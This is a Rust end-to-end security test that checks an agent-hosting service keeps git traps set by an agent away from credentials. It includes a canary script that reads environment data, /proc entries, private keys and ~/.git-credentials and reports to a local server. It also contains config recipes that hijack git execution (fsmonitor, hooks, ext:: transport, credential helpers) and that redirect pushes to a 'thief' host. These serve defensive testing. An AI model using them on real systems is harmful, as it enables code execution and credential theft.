//! Git in hostile hands: what an agent sets up in its repository is not run where the credentials are.
//!
//! Each task lays a trap and springs it once itself, so that it is known to work. Afterwards nobody may
//! spring it, or, where git has no other way, the agent's user alone, with no credential in sight.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "helpers of tests fail the test; records are read by their members' names"
)]

use std::{
    fs::{self, Permissions},
    os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink},
    path::Path,
};

use legwork_e2e::{Service, ServiceBuilder, modes, reachable};
use legwork_simulators::git_server::{BareRepositories, BareRepository, GitHttpServer, SshServer};
use serde_json::{Value, json};
use tempfile::TempDir;

const TOKEN: &str = "token-of-the-task";

/// What every trap springs: it tells over the network who runs it, and how often it sees a credential.
///
/// The trap's name is its first argument, or stands behind the dash where git allows no arguments.
const ALARM: &str = r#"#!/bin/sh
case $0 in *alarm-*) name=${0##*alarm-} ;; *) name=$1 ;; esac
seen=$({ env; cat /proc/$PPID/environ /proc/$PPID/cmdline "$HOME/key" "$HOME/.git-credentials" \
    "${HOME%/*}"/git/* "${HOME%/*}"/git/.git-credentials; } 2>/dev/null | tr '\0' '\n' |
    grep -ac 'PRIVATE [K]EY\|[t]oken-of-the-task')
env -i PATH="$PATH" HOME=/nonexistent GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0 \
    git ls-remote "BELL/${SPRUNG_BY:-somebody}/$name/$(id -u)/$seen" </dev/null >/dev/null 2>&1
exit 1
"#;

/// What stands behind the dash.
const ALIASES: [&str; 2] = ["gpg", "git-proxy"];

/// A program in a folder of its own, which is on every task's `PATH`, and who hears of it.
struct Alarm {
    bell: GitHttpServer,
    folder: TempDir,
}

/// Who has sprung a trap, and how much was in sight.
#[derive(Debug)]
struct Ring {
    by: String,
    user: u32,
    seen: u32,
}

impl Alarm {
    async fn set() -> Self {
        let bell = GitHttpServer::start(&BareRepositories::new()).await;
        let folder = tempfile::tempdir().unwrap();
        let program = folder.path().join("alarm");
        fs::write(&program, ALARM.replace("BELL", &bell.base())).unwrap();
        for path in [folder.path(), &program] {
            fs::set_permissions(path, Permissions::from_mode(0o755)).unwrap();
        }
        for alias in ALIASES {
            symlink("alarm", folder.path().join(format!("alarm-{alias}"))).unwrap();
        }
        Self { bell, folder }
    }

    fn service(&self) -> Service {
        let agent = reachable(Path::new(env!("CARGO_BIN_EXE_fake-agent")));
        let path = format!("/usr/local/bin:/usr/bin:/bin:{}", self.folder.path().display());
        let builder = ServiceBuilder::new(env!("CARGO_BIN_EXE_legwork-under-test"), agent.as_str());
        builder.env("PATH", &path).start()
    }

    /// Returns who has sprung the trap of this name, in order.
    fn rings(&self, name: &str) -> Vec<Ring> {
        let requests = self.bell.requests();
        let rings = requests.iter().filter_map(|request| {
            let parts: Vec<&str> = request.target.split('/').collect();
            let [_, by, trap, user, seen, ..] = parts.as_slice() else { return None };
            let ring = Ring { by: (*by).to_owned(), user: user.parse().ok()?, seen: seen.parse().ok()? };
            (*trap == name).then_some(ring)
        });
        rings.collect()
    }
}

/// How the actions of a task end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum End {
    Pushed,
    /// An error is told that holds these words.
    Told(&'static str),
}

/// One task in a repository of its own.
struct Deed {
    name: &'static str,
    commands: Vec<String>,
    /// The branch that is pushed to: `main`, or `moved`, which has moved on.
    branch: &'static str,
    end: End,
}

/// What came of it.
struct Outcome {
    deed: Deed,
    repository: BareRepository,
    before: Vec<String>,
    record: Value,
}

fn repository(repositories: &BareRepositories, name: &str) -> BareRepository {
    let repository = repositories.repository(name);
    let lines: &[u8] = b"one\ntwo\nthree\n";
    repository.commit("main", "first", &[("README.md", b"hello\n"), ("shared.txt", lines)]);
    repository.commit("main", "second", &[("b.txt", b"b\n")]);
    repository.git(&["branch", "moved", "main"]);
    repository.commit("moved", "theirs", &[("shared.txt", b"one\nremote\nthree\n")]);
    repository
}

/// Runs all tasks, as many at a time as the service does, and returns them in order.
async fn run_all(
    service: &Service,
    deeds: Vec<Deed>,
    repository: impl Fn(&str) -> BareRepository,
    remote: impl Fn(&str) -> Value,
) -> Vec<Outcome> {
    let mut begun = Vec::new();
    for deed in deeds {
        let repository = repository(deed.name);
        let before = repository.shas(deed.branch);
        let mut request = remote(deed.name);
        let work = "echo work > work.txt; printf 'one\\ntask\\nthree\\n' > shared.txt".to_owned();
        request["preExecutionCommands"] = [deed.commands.clone(), vec![work]].concat().into();
        let git = json!({"commit": true, "commitMessage": deed.name, "push": true, "branch": deed.branch});
        request["postExecutionActions"] = json!({"git": git});
        let id = service.submit(&modes(&["ok"]), None, request).await;
        begun.push((id, deed, repository, before));
    }
    let mut ended = Vec::new();
    for (id, deed, repository, before) in begun {
        let record = service.wait_for_end(&id).await;
        ended.push(Outcome { deed, repository, before, record });
    }
    ended
}

impl Outcome {
    /// Asserts that the task ended as it should, and that the remote has lost nothing.
    #[track_caller]
    fn check(&self) {
        let Self { deed, repository, before, record } = self;
        let name = deed.name;
        assert_eq!(record["status"], "completed", "{name}: {record:#}");
        let after = repository.shas(deed.branch);
        let pushed = &record["gitCommit"]["pushed"];
        match deed.end {
            End::Pushed => {
                assert_eq!(
                    (pushed, &record["actionErrors"]),
                    (&json!(true), &json!([])),
                    "{name}: {record:#}"
                );
                assert_eq!(after.get(1..), Some(before.as_slice()), "{name}: {record:#}");
                assert_eq!(repository.message(deed.branch), name, "{name}: {record:#}");
                let work = repository.file(deed.branch, "shared.txt").unwrap();
                assert_eq!(work, b"one\ntask\nthree\n", "{name}: {record:#}");
            }
            End::Told(words) => {
                assert_ne!(pushed, &json!(true), "{name}: {record:#}");
                assert_eq!(&after, before, "{name}: {record:#}");
                let told = &record["actionErrors"][0];
                let told = format!("{}: {}", told["action"], told["error"]);
                assert!(told.contains(words), "{name}: {told}");
            }
        }
    }
}

/// A trap whose springing rings the alarm.
struct Trap {
    name: &'static str,
    lay: String,
    spring: &'static str,
    /// Whether git itself springs it when the agent's work is committed, as the agent's user.
    is_sprung_again: bool,
    branch: &'static str,
    end: End,
}

fn trap(name: &'static str, lay: impl Into<String>, spring: &'static str) -> Trap {
    Trap { name, lay: lay.into(), spring, is_sprung_again: false, branch: "main", end: End::Pushed }
}

fn filter(name: &'static str, lay: &str) -> Trap {
    let lay = format!("echo '* filter=evil' > .gitattributes; {lay}");
    Trap { is_sprung_again: true, ..trap(name, lay, "git hash-object --path x README.md") }
}

/// Makes every hook in a folder ring.
fn hooks(name: &str, folder: &str) -> String {
    format!(
        "mkdir -p {folder}; for hook in commit-msg post-checkout post-commit post-index-change post-rewrite \
         pre-commit pre-push pre-rebase prepare-commit-msg reference-transaction; do \
         printf '#!/bin/sh\\nalarm {name}\\n' > {folder}/$hook; chmod +x {folder}/$hook; done"
    )
}

fn traps() -> Vec<Trap> {
    let commit = "git commit -q --allow-empty -m x";
    let ask = "printf 'protocol=https\\nhost=h\\n\\n' | git credential fill";
    let merge = "git checkout -q -b one; echo one > shared.txt; git commit -qam one; \
                 git checkout -q -b two main; echo two > shared.txt; git commit -qam two; \
                 git merge one; git merge --abort; git checkout -q main";
    let missing = "blob=$(git rev-parse HEAD:README.md); folder=$(echo $blob | cut -c1-2); \
                   rm -f README.md .git/objects/$folder/${blob#$folder}";
    vec![
        trap("fsmonitor", "git config core.fsmonitor 'alarm fsmonitor'", "git status"),
        trap("ssh", "git config core.sshCommand 'alarm ssh'", "git ls-remote ssh://h/x"),
        trap("hooks", hooks("hooks", ".git/hooks"), commit),
        trap("hooks-path", hooks("hooks-path", "~/hooks") + "; git config core.hooksPath ~/hooks", commit),
        trap("gpg", "git config gpg.program alarm-gpg; git config commit.gpgSign true", commit),
        trap("credential", "git config credential.helper '!alarm credential'", ask),
        trap(
            "include",
            "printf '[core]\\n fsmonitor = alarm include\\n' > ~/more; git config include.path ~/more",
            "git status",
        ),
        trap("home", "printf '[core]\\n fsmonitor = alarm home\\n' > ~/.gitconfig", "git status"),
        trap(
            "alias",
            "for name in add commit push log other; do git config alias.$name '!alarm alias'; done",
            "git other",
        ),
        trap(
            "diff",
            "git config diff.external 'alarm diff'; git config diff.evil.textconv 'alarm diff'; \
             echo '* diff=evil' > .gitattributes; echo more >> README.md",
            "git diff",
        ),
        trap("editor", "git config core.editor 'alarm editor'", "git commit --allow-empty"),
        trap("git-proxy", "git config core.gitProxy alarm-git-proxy", "git ls-remote git://h/x"),
        trap(
            "transport",
            "git config protocol.allow always; git config 'url.ext::alarm transport .insteadOf' ssh://",
            "git ls-remote ssh://h/x",
        ),
        Trap {
            branch: "moved",
            ..trap(
                "merge",
                "git config merge.evil.driver 'alarm merge'; echo '* merge=evil' > .gitattributes",
                merge,
            )
        },
        filter("clean", "git config filter.evil.clean 'alarm clean; cat'"),
        Trap {
            end: End::Told("commit"),
            ..filter("process", "git config filter.evil.process 'alarm process'")
        },
        Trap {
            end: End::Told("transport 'ext' not allowed"),
            ..trap(
                "promisor",
                format!(
                    "git config core.repositoryformatversion 1; git config extensions.partialClone origin; \
                     git config remote.origin.promisor true; git config protocol.allow always; \
                     git config remote.origin.url 'ext::alarm promisor'; {missing}"
                ),
                "git cat-file -p HEAD:README.md",
            )
        },
    ]
}

/// The agent's own springing, which proves that the trap works.
fn sprung(spring: &str) -> String {
    format!(
        "export SPRUNG_BY=agent GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a \
         GIT_COMMITTER_EMAIL=a@b; {{ {spring}; }} </dev/null >/dev/null 2>&1 || true"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_agent_sets_up_to_be_run_is_not_run_where_the_credentials_are() {
    let alarm = Alarm::set().await;
    let repositories = BareRepositories::new();
    let server = SshServer::start(&repositories).await;
    let service = alarm.service();
    let traps = traps();
    let mut deeds: Vec<Deed> = traps
        .iter()
        .map(|trap| Deed {
            name: trap.name,
            commands: vec![trap.lay.clone(), sprung(trap.spring)],
            branch: trap.branch,
            end: trap.end,
        })
        .collect();
    // Proves that the alarm sees what is there to be seen.
    let lure = vec![sprung("LURE=token-of-the-''task alarm lure")];
    deeds.push(Deed { name: "lure", commands: lure, branch: "main", end: End::Pushed });

    let outcomes = run_all(
        &service,
        deeds,
        |name| repository(&repositories, name),
        |name| json!({"gitRepo": server.url(name), "sshKey": server.client_key()}),
    )
    .await;

    let is_root = fs::metadata("/proc/self").unwrap().uid() == 0;
    outcomes.iter().for_each(Outcome::check);
    for trap in &traps {
        let (name, rings) = (trap.name, alarm.rings(trap.name));
        assert!(rings.iter().any(|ring| ring.by == "agent"), "{name} is no trap: {rings:?}");
        let is_sprung_again = rings.iter().any(|ring| ring.by != "agent");
        assert_eq!(is_sprung_again, trap.is_sprung_again, "{name}: {rings:?}");
        assert!(rings.iter().all(|ring| ring.seen == 0), "{name} has seen a credential: {rings:?}");
        // Without root the agent has no user of its own.
        assert!(!is_root || rings.iter().all(|ring| ring.user != 0), "{name}: {rings:?}");
    }
    assert!(alarm.rings("lure").iter().any(|ring| ring.seen > 0), "the alarm is blind");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_that_an_agent_sets_gets_neither_the_work_nor_the_token() {
    let alarm = Alarm::set().await;
    let repositories = BareRepositories::new();
    let server = GitHttpServer::start(&repositories).await.with_token(TOKEN);
    // It asks for credentials, so that git would show some.
    let thief = GitHttpServer::start(&BareRepositories::new()).await.with_token("of nobody");
    let service = alarm.service();
    let (own, other) = (server.base(), thief.base());
    let fetch = "git -c http.userAgent=agent ls-remote origin";
    let push = "git -c http.userAgent=agent push origin HEAD:refs/heads/x";
    let rows = [
        ("url", format!("git config remote.origin.url {other}/url.git"), fetch),
        ("pushurl", format!("git config remote.origin.pushurl {other}/pushurl.git"), push),
        ("instead", format!("git config url.{other}/.insteadOf {own}/"), fetch),
        ("push-instead", format!("git config url.{other}/.pushInsteadOf {own}/"), push),
        ("proxy", format!("git config http.proxy {other}; git config remote.origin.proxy {other}"), fetch),
        ("home", format!("printf '[url \"{other}/\"]\\n insteadOf = {own}/\\n' > ~/.gitconfig"), fetch),
    ];
    let names = rows.each_ref().map(|(name, _, _)| *name);
    let deed = |(name, lay, spring): (&'static str, String, &str)| Deed {
        name,
        commands: vec![lay, sprung(spring)],
        branch: "main",
        end: End::Pushed,
    };
    let helper = sprung("git ls-remote origin");
    let helper = vec!["git config credential.helper '!alarm helper'".to_owned(), helper];
    let helper = Deed { name: "helper", commands: helper, branch: "main", end: End::Pushed };

    let outcomes = run_all(
        &service,
        rows.map(deed).into_iter().chain([helper]).collect(),
        |name| repository(&repositories, name),
        |name| json!({"gitRepo": server.url(name), "gitToken": TOKEN}),
    )
    .await;

    outcomes.iter().for_each(Outcome::check);
    let asked = thief.requests();
    for name in names {
        let is_trap = asked.iter().any(|request| request.target.contains(&format!("/{name}.git/")));
        assert!(is_trap, "{name} is no trap: {asked:?}");
    }
    for request in &asked {
        assert_eq!(request.header("user-agent"), Some("agent"), "{request:?}");
        assert_eq!(request.authorization(), None, "{request:?}");
    }
    let rings = alarm.rings("helper");
    assert!(!rings.is_empty(), "the helper is no trap");
    assert!(rings.iter().all(|ring| ring.by == "agent" && ring.seen == 0), "{rings:?}");
}

legwork_e2e::also_on_google!(
    what_an_agent_sets_up_to_be_run_is_not_run_where_the_credentials_are,
    an_address_that_an_agent_sets_gets_neither_the_work_nor_the_token,
);
